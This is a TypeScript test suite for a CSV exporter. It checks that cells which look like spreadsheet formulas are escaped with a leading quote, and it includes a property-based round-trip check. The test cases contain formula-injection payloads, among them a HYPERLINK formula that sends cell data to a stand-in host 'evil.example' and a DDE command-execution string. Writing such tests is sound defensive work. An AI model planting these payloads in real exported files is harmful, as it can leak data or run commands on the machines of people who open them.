import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvLine } from './csv.ts'

/** RFC 4180, section 2, as a parser that knows nothing of us. */
function parse(line: string): string[] {
  const cells: string[] = []
  let at = 0
  for (;;) {
    let cell = ''
    if (line[at] === '"') {
      for (at += 1; !(line[at] === '"' && line[at + 1] !== '"'); at += 1) {
        cell += line[at]
        if (line[at] === '"') at += 1
      }
      at += 1
    } else {
      for (; line[at] !== ',' && !(line[at] === '\r' && line[at + 1] === '\n'); at += 1) cell += line[at]
    }
    cells.push(cell)
    if (line[at] !== ',') return cells
    at += 1
  }
}

describe('a line of CSV', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＠SUM(1)',
  ])('shows %j as text', (text) => {
    const line = csvLine(['a', text, 'b'])
    expect(line).toMatch(/^a,"'/)
    expect(parse(line)).toEqual(['a', `'${text}`, 'b'])
  })

  it('leaves what is plain as it is', () => {
    expect(csvLine(['12.50', 'Lamp', '', '2026-11-22T10:00:00.000Z', 'Lampe für Grüße 灯'])).toBe(
      '12.50,Lamp,,2026-11-22T10:00:00.000Z,Lampe für Grüße 灯\r\n',
    )
  })

  it('gives back whatever was written, in as many cells, none of which begins like a formula', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",; ab\'1'), maxLength: 8 })
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (cells) => {
        const read = parse(csvLine(cells))
        expect(read.map((cell, index) => (cell === `'${cells[index]}` ? cells[index] : cell))).toEqual(cells)
        for (const cell of read) expect(cell).not.toMatch(/^\s*[=+\-@\t\r\n]/)
      }),
    )
  })
})
